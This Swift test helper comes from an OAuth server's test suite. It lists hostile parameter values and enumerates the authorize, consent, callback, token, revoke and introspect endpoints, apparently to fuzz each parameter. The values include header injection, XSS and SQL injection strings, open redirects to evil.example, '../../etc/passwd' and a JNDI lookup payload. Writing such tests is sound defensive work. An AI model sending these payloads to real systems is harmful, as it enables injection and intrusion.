import HTTP

/// Texts that attackers put where a parameter stands.
enum HostileInput {
  static let values = [
    "\r\nSet-Cookie: hijacked=1", "\nLocation: https://evil.example/", "\0", "a\u{0}b", "\u{1B}[2J", "\u{85}",
    "\u{2028}x",
    "\u{202E}txt.exe", "\u{FEFF}", "e\u{301}", "\u{1F600}", "\u{FF0F}\u{FF0F}evil.example", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "' OR 1=1 --", "{\"a\":1}", "//evil.example", "https://evil.example/",
    "https://engineering-tools.example.com.evil.example/", "https://engineering-tools.example.com@evil.example/",
    "javascript:alert(1)", "data:text/html,x", "%0d%0aX: y", "%2e%2e%2f", "../../etc/passwd",
    "${jndi:ldap://evil.example}",
    String(repeating: "a", count: 9000), String(repeating: "\u{202E}", count: 400), " ", "+", "\u{0}",
  ]

  /// A place that takes parameters, with good ones.
  struct Place: Sendable, CustomStringConvertible {
    let name: String
    let method: String
    let path: String
    let parameters: [(name: String, value: String)]

    var description: String { name }

    /// The request with these parameters.
    func request(_ parameters: [(String, String)], cookies: String? = nil) -> HTTPRequest {
      let form = FormParameters(parameters).encoded
      var headers: HTTPHeaders = [:]
      headers["Cookie"] = cookies
      guard method == "POST" else {
        return HTTPRequest(
          method: method, target: path + "?" + form, headers: headers, remoteAddress: "192.0.2.7")
      }
      headers["Content-Type"] = "application/x-www-form-urlencoded"
      return HTTPRequest(
        method: method, target: path, headers: headers, body: Array(form.utf8), remoteAddress: "192.0.2.7")
    }
  }

  /// Every endpoint with every parameter that it reads.
  static func places(client: String) -> [Place] {
    let id = ConfiguredClientTests.id
    let secret = ConfiguredClientTests.secret
    let type = TokenExchangeTests.accessToken
    func token(_ name: String, _ parameters: [(String, String)]) -> Place {
      Place(name: name, method: "POST", path: "/oauth/token", parameters: [("grant_type", name)] + parameters)
    }
    return [
      Place(
        name: "authorize", method: "GET", path: "/oauth/authorize",
        parameters: [
          ("response_type", "code"), ("client_id", client), ("redirect_uri", Scene.listening), ("scope", "openid"),
          ("state", "s"), ("code_challenge", Scene.challenge), ("code_challenge_method", "S256"),
          ("resource", Scene.audience), ("response_mode", "query"), ("nonce", "n"), ("prompt", "login"),
        ]),
      Place(name: "move", method: "GET", path: "/oauth/consent", parameters: [("request", "r")]),
      Place(
        name: "consent", method: "POST", path: "/oauth/consent", parameters: [("request", "r"), ("decision", "allow")]),
      Place(
        name: "callback", method: "GET", path: "/oauth/callback",
        parameters: [("code", "c"), ("state", "s"), ("iss", "i")]),
      Place(
        name: "failed callback", method: "GET", path: "/oauth/callback",
        parameters: [("error", "access_denied"), ("error_description", "d"), ("state", "s")]),
      token(
        "authorization_code",
        [
          ("code", "c"), ("client_id", client), ("redirect_uri", Scene.listening), ("code_verifier", Scene.verifier),
          ("client_secret", ""),
        ]),
      token("refresh_token", [("refresh_token", "t"), ("client_id", client), ("scope", "openid")]),
      token(
        TokenExchangeTests.grant,
        [
          ("client_id", id), ("client_secret", secret), ("subject_token", "t"), ("subject_token_type", type),
          ("actor_token", "t"), ("actor_token_type", type), ("requested_token_type", type), ("scope", "openid"),
        ]),
      token(AssertionTests.grant, [("assertion", "t"), ("scope", "openid")]),
      Place(
        name: "revoke", method: "POST", path: "/oauth/revoke",
        parameters: [("token", "t"), ("client_id", client), ("token_type_hint", "access_token")]),
      Place(
        name: "introspect", method: "POST", path: "/oauth/introspect",
        parameters: [("token", "t"), ("client_id", id), ("client_secret", secret), ("token_type_hint", "x")]),
    ]
  }
}
